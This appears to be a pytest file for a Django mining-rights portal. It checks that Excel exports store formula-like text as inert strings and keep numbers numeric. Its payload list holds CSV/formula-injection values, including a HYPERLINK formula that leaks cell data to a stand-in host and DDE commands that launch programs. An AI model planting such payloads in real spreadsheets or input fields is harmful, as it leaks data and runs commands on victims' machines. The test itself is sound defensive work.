"""Text that a spreadsheet would take for a formula is written as inert text in every export:
the register pages' .xlsx and the admin's. Negative numbers stay numbers."""

from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from rights.models import MiningRight
from tests.admin.test_admin_excel import export_form

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
    "=1+2",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]


def cells_with(book, texts):
    """Every cell of the workbook whose value is one of ``texts`` (CR read back as LF)."""
    wanted = {text.replace("\r", "\n") for text in texts}
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            found += [
                cell
                for cell in row
                if isinstance(cell.value, str) and cell.value.replace("\r", "\n") in wanted
            ]
    return found


@pytest.fixture
def hostile_rights(loaded_plan):
    """Mining rights whose names and holders are formula payloads."""
    rights = list(MiningRight.objects.filter(plan=loaded_plan).order_by("seq")[: len(PAYLOADS)])
    for right, payload in zip(rights, PAYLOADS, strict=True):
        right.name = payload
        right.holder = payload
        right.save()
    return rights


def assert_inert(book):
    cells = cells_with(book, PAYLOADS)
    texts = {cell.value.replace("\r", "\n") for cell in cells}
    # Every payload came out, with its exact text (XML reads a CR as a line feed).
    assert texts == {payload.replace("\r", "\n") for payload in PAYLOADS}
    for cell in cells:
        assert cell.data_type != "f", cell.value
        assert cell.data_type == "s", cell.value
        # Excel's leading-apostrophe mark: stays text even when the cell is edited.
        assert cell.quotePrefix, cell.value


def assert_figures_are_numbers(book):
    sheet = book.active
    column = [cell.value for cell in sheet[1]].index("面积（km²）")
    areas = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert areas
    assert all(cell.data_type == "n" for cell in areas)


def test_page_export_writes_formulas_as_text(client, hostile_rights):
    response = client.get(reverse("rights:mining-export"))
    book = load_workbook(BytesIO(response.getvalue()))

    assert_inert(book)
    assert_figures_are_numbers(book)


def test_admin_export_writes_formulas_as_text(admin_client_zh, hostile_rights):
    response = admin_client_zh.post(
        reverse("admin:rights_miningright_export"), export_form(MiningRight)
    )
    book = load_workbook(BytesIO(response.getvalue()))

    assert_inert(book)
    assert_figures_are_numbers(book)


def test_negative_numbers_stay_numbers_and_minus_text_is_inert():
    from planportal.excel import Sheet, workbook_bytes

    data = workbook_bytes([Sheet(title="t", headers=["x"], rows=[[-3], [Decimal("-1.5")], ["-3"]])])
    cells = [row[0] for row in load_workbook(BytesIO(data)).active.iter_rows(min_row=2)]

    assert [(c.value, c.data_type) for c in cells] == [(-3, "n"), (-1.5, "n"), ("-3", "s")]
    assert cells[2].quotePrefix
    assert not cells[0].quotePrefix
